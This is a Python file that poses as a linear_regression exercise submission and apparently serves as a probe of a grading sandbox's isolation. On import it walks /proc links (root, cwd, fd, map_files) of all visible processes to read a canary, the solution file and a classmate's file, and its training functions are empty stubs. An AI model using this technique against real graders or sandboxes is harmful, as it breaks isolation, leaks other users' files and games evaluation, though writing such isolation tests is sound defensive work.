# tries: to reach outside files through the links in /proc: root, cwd, fd, map_files of any process
# exercise: linear_regression
import os

SECRETS = ["@CANARY@", "@SOLUTIONS@/solution.py", "@CLASSMATE@"]
processes = ["self", "thread-self", "1", "2", "@PID@", str(os.getppid())]
try:
    processes += [name for name in os.listdir("/proc") if name.isdigit()]
except OSError:
    pass
mine = {"self", "thread-self", str(os.getpid())}
for process in processes:
    for link in ("root", "cwd", "root/proc/1/root", "task/1/root", f"task/{process}/cwd"):
        for secret in SECRETS:
            try:
                with open(f"/proc/{process}/{link}{secret}", "rb") as file:
                    print("ESCAPED:", file.read())
            except OSError:
                pass
    for folder in ("fd", "map_files"):
        try:
            names = os.listdir(f"/proc/{process}/{folder}")
        except OSError:
            continue
        if process not in mine:
            print(f"ESCAPED: listed {folder} of process {process}: {names}")
        for name in names:
            try:
                target = os.readlink(f"/proc/{process}/{folder}/{name}")
            except OSError:
                continue
            if target.startswith(("@FOLDER@", "@SOLUTIONS@")):
                print(f"ESCAPED: {process} holds {target}")


def compute_loss(*arguments):
    return None


def train_parameters_linear_regression(*arguments, **keywords):
    return None
